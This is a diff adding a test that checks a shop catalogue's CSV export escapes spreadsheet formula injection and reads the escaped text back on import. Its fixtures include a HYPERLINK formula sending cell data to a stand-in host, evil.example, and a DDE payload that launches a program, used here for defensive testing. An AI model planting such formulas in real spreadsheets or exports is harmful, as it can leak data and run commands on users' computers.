@@ -509,6 +509,67 @@ describe('catalogue import', () => {
     expect(csv.filter((row) => row.hidden === 'yes')).toHaveLength(1);
   });
 
+  it('escapes formulas in the CSV export (OWASP), and reads them back as the same text', async () => {
+    const formulas = {
+      title_ru: '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")',
+      title_en: '+1+2',
+      title_ky: '@SUM(A1:A9)',
+      description_ru: '-2+3 увлажняет',
+      description_en: "'=already quoted",
+      description_ky: "'plain apostrophe",
+    };
+    const [{ id: productId }] = (await queryRows<{ id: number }>(
+      ctx.database,
+      sql`update products set title_ru = ${formulas.title_ru}, title_en = ${formulas.title_en},
+            title_ky = ${formulas.title_ky} where slug = ${existing.product} returning id`,
+    )) as [{ id: number }];
+    await ctx.database.db.execute(
+      sql`update product_details set description_ru = ${formulas.description_ru},
+            description_en = ${formulas.description_en}, description_ky = ${formulas.description_ky}
+          where product_id = ${productId}`,
+    );
+    const csvExport = (await exported('csv')).toString('utf8');
+    const rows = parse(csvExport, { bom: true, columns: true }) as Array<Record<string, string>>;
+    const row = rows.find((each) => each.sku === existing.sku)!;
+    expect(row).toMatchObject({
+      title_ru: `'${formulas.title_ru}`,
+      title_en: "'+1+2",
+      title_ky: "'@SUM(A1:A9)",
+      description_ru: "'-2+3 увлажняет",
+      description_en: "''=already quoted",
+      description_ky: "'plain apostrophe",
+    });
+    // Prices and stock stay numbers a spreadsheet can add up.
+    expect(row.price).toMatch(/^\d+\.\d\d$/);
+    expect(row.stock).toMatch(/^\d+$/);
+    // Nothing a spreadsheet would evaluate is left at the start of any cell.
+    for (const each of rows)
+      for (const cell of Object.values(each)) expect(cell, cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
+
+    // The product's rows of the unedited export import as unchanged: escapes read back as the text.
+    const [csvHeader, ...csvLines] = parse(csvExport, { bom: true }) as string[][];
+    const productLines = csvLines.filter((line) => line[0] === existing.product);
+    const checked = await upload(stringify([csvHeader!, ...productLines]), 'formulas.csv');
+    expect(checked.planned).toEqual({ create: 0, update: 0, unchanged: productLines.length, refused: 0 });
+
+    // The import report quotes what the file said: escaped too.
+    const refused = await upload(
+      stringify([
+        ['product', 'title_ru', 'brand', 'category', 'sku', 'price'],
+        ['formula-brand', 'Крем', "=cmd|' /C calc'!A0", category, 'FORMULA-1', '100'],
+      ]),
+      'formula-report.csv',
+    );
+    await run(refused.id);
+    const report = await ctx.app.inject({
+      method: 'GET',
+      url: `/api/v1/staff/catalog-imports/${refused.id}/report?lang=en`,
+      headers: bearer(manager),
+    });
+    const [, line] = parse(report.body, { bom: true }) as string[][];
+    expect(line!.slice(2, 6)).toEqual(['refused', 'brand', 'unknown_brand', "'=cmd|' /C calc'!A0"]);
+  });
+
   it('an edited XLSX export updates the edited row only', async () => {
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.load((await exported('xlsx')) as unknown as ArrayBuffer);
